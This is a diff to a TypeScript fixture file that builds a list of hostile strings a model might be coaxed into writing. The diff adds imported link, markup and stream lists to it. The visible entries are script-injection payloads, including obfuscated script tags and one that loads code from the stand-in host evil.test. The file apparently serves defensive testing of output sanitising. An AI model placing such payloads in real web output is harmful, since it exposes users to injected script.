@@ -1,5 +1,12 @@
+import { HOSTILE_LINKS } from "./hostile-links";
+import { HOSTILE_MARKUP } from "./hostile-markup";
+import { HOSTILE_STREAMS } from "./hostile-streams";
+
 /** What a model may be talked into writing: each tries to run code, to load something, or to lead astray. */
 export const HOSTILE_TEXTS: readonly string[] = [
+  ...HOSTILE_LINKS,
+  ...HOSTILE_MARKUP,
+  ...HOSTILE_STREAMS,
   "<script>alert(1)</script>",
   "<ScRiPt src=//evil.test/x.js></sCrIpT>",
   "<script\n>alert(1)</script\n>",
